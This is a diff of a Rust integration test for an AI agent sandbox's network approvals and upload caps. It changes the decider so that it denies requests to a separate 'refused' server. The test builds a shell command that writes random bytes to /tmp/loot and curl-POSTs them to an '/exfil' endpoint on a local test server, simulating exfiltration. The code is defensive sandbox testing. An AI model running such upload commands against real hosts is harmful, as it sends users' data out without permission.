@@ -24,8 +24,6 @@ use serde_json::Value;
 use super::approvals::{Decider, reply};
 
 const TOOL_CALL_HEADER: &str = "X-Agent-Sandbox-Tool-Call";
-/// What the last question's header claims: the test's decider denies it.
-const FINAL: &str = "toolu_final_question";
 /// The upload: bigger than anything the flood sends in one connection.
 const UPLOAD_BYTES: u64 = 300_000;
 /// A small cap, so the flood reaches it in seconds.
@@ -35,11 +33,12 @@ fn podman() -> Podman {
     Podman::new(User::Root, Runtime::AgentSandbox)
 }
 
-/// The test's world: an allowed server, a server a decider is asked about, and the decider
-/// (allow-once to every question, deny to the one whose header claims [`FINAL`]).
+/// The test's world: an allowed server, two servers a decider is asked about, and the decider
+/// (allow-once to questions about `asked`, deny to those about `refused`).
 struct World {
     allowed: HttpServer,
     asked: HttpServer,
+    refused: HttpServer,
     decider: Decider,
     policy: PathBuf,
     _dir: tempfile::TempDir,
@@ -51,8 +50,10 @@ impl World {
         net::ensure_test_hosts()?;
         let allowed = HttpServer::start(REGISTRY_IP, "allowed")?;
         let asked = HttpServer::start(COLLECTOR_IP, "asked")?;
-        let decider = Decider::start(|_, q| {
-            if q["tool_call_claimed"] == FINAL {
+        let refused = HttpServer::start(COLLECTOR_IP, "refused")?;
+        let refused_port = refused.port();
+        let decider = Decider::start(move |_, q| {
+            if q["port"] == refused_port {
                 reply("deny", Some("not for this task"))
             } else {
                 reply("allow-once", None)
@@ -73,20 +74,26 @@ impl World {
             &format!("[network]\n{settings}"),
             1,
         );
-        let ceiling = [
-            format!("{COLLECTOR_HOST}:{}", asked.port()),
-            format!("{COLLECTOR_IP}:{}", asked.port()),
-        ];
+        let ceiling: Vec<String> = [asked.port(), refused_port]
+            .iter()
+            .flat_map(|p| {
+                [
+                    format!("{COLLECTOR_HOST}:{p}"),
+                    format!("{COLLECTOR_IP}:{p}"),
+                ]
+            })
+            .map(|r| format!("{r:?}"))
+            .collect();
         let text = format!(
-            "{text}\n[network.approvals]\ndecider = {:?}\nceiling = [{:?}, {:?}]\n",
+            "{text}\n[network.approvals]\ndecider = {:?}\nceiling = [{}]\n",
             decider.path.display().to_string(),
-            ceiling[0],
-            ceiling[1]
+            ceiling.join(", ")
         );
         std::fs::write(&path, text)?;
         Ok(Self {
             allowed,
             asked,
+            refused,
             decider,
             policy: path,
             _dir: dir,
@@ -112,9 +119,9 @@ impl World {
         format!(
             "head -c {UPLOAD_BYTES} /dev/urandom > /tmp/loot; \
              echo up=$(curl -s -m 20 -o /dev/null -w '%{{http_code}}' -X POST --data-binary @/tmp/loot {a}/exfil); \
-             echo ask=$(curl -s -m 20 -o /dev/null -w '%{{http_code}}' -H '{TOOL_CALL_HEADER}: {FINAL}' {q}/after)",
+             echo ask=$(curl -s -m 20 -o /dev/null -w '%{{http_code}}' {q}/after)",
             a = self.url(&self.allowed, REGISTRY_HOST, ""),
-            q = self.url(&self.asked, COLLECTOR_HOST, ""),
+            q = self.url(&self.refused, COLLECTOR_HOST, ""),
         )
     }
 }
@@ -179,7 +186,7 @@ fn check_log(w: &World, root: &str, id: &str) -> anyhow::Result<()> {
         log.display()
     );
     // The decider's denial: an approval record, or counted after the cap.
-    let target = format!("{COLLECTOR_HOST}:{}", w.asked.port());
+    let target = format!("{COLLECTOR_HOST}:{}", w.refused.port());
     let recorded_denial = records.iter().any(|r| {
         r["kind"] == "approval" && r["data"]["answer"] == "deny" && r["data"]["target"] == *target
     });
